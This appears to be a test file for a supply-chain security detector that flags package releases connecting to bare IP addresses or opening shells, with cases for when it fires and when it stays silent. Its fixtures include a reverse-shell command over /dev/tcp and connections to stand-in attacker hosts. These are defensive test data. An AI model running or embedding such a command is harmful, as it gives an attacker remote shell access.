import { describeSignal } from '../../src/testing/describe-signal.ts';
import { address, fact, file, request, rests, runs, starts } from '../../src/testing/facts.ts';
import { read, shallow, sourced } from '../../src/testing/sources.ts';
import { ipOrSocketDestination } from './ip-or-socket-destination.ts';

const before = read('1.0.5', runs('index.js'));
const raw = fact('socket', '240.10.0.1:2333', 'net.connect');

describeSignal(ipOrSocketDestination, {
  context: { asOf: '2026-06-29', baseline: null },
  fires: {
    'a request to a bare address': {
      on: sourced(before, read('1.0.6', runs('index.js', request('http://240.10.0.1:8000/stage')))),
      citing: ['/index.js:1:1'],
      weight: 40,
    },
    'a raw connection': {
      on: sourced(before, read('1.0.6', runs('index.js', raw))),
      citing: '/index.js:1:1',
      weight: 40,
    },
    'a raw connection to a name': {
      on: sourced(
        before,
        read('1.0.6', runs('index.js', fact('socket', 'shell.driftwood.invalid:4444', 'net.connect'))),
      ),
      citing: '/index.js:1:1',
      weight: 40,
    },
    'a shell that connects by itself': {
      on: sourced(before, read('1.0.6', runs('index.js', starts('bash -i >& /dev/tcp/240.10.0.1/4433 0>&1', 'shell')))),
      citing: '/index.js:1:1',
      weight: 40,
    },
    'an address kept in a constant beside a request': {
      on: sourced(before, read('1.0.6', runs('index.js', address('http://240.10.0.1'), request('')))),
      citing: '/index.js:1:1',
      weight: 40,
    },
    'an address that nothing near asks': {
      on: sourced(before, read('1.0.6', runs('index.js', address('240.10.0.1')))),
      citing: '/index.js:1:1',
      weight: 15,
    },
    'the first release connects a shell': {
      on: sourced(read('1.0.0', runs('server.py', raw, starts('/bin/sh', 'shell')))),
      citing: '/server.py:1:1',
      weight: 35,
    },
  },
  silent: {
    'the address was there before': sourced(read('1.0.5', runs('index.js', raw)), read('1.0.6', runs('tides.js', raw))),
    'the same host at another port': sourced(
      read('1.0.5', runs('index.js', raw)),
      read('1.0.6', runs('index.js', fact('socket', '240.10.0.1:2334', 'net.connect'))),
    ),
    'this machine, this network, an example': sourced(
      before,
      read(
        '1.0.6',
        runs(
          'index.js',
          request('http://127.0.0.1:9'),
          fact('socket', '10.0.0.7:5432', 'net.connect'),
          request('http://192.0.2.1'),
        ),
      ),
    ),
    'a public resolver': sourced(before, read('1.0.6', runs('index.js', fact('socket', '1.1.1.1:53', 'dgram.send')))),
    'a test': sourced(before, read('1.0.6', runs('index.js'), rests('test', 'a.test.js', raw))),
    'a connection whose other end is not constant': sourced(
      before,
      read('1.0.6', runs('index.js', fact('socket', '', 'net.connect'))),
    ),
    "a raw connection to the package's own domain": sourced(
      before,
      read('1.0.6', runs('index.js', fact('socket', 'mqtt.harbor.test:8883', 'tls.connect'))),
    ),
    'a first release that connects and starts nothing': sourced(read('1.0.0', file('a.js', {}, raw))),
  },
  unseen: shallow,
});
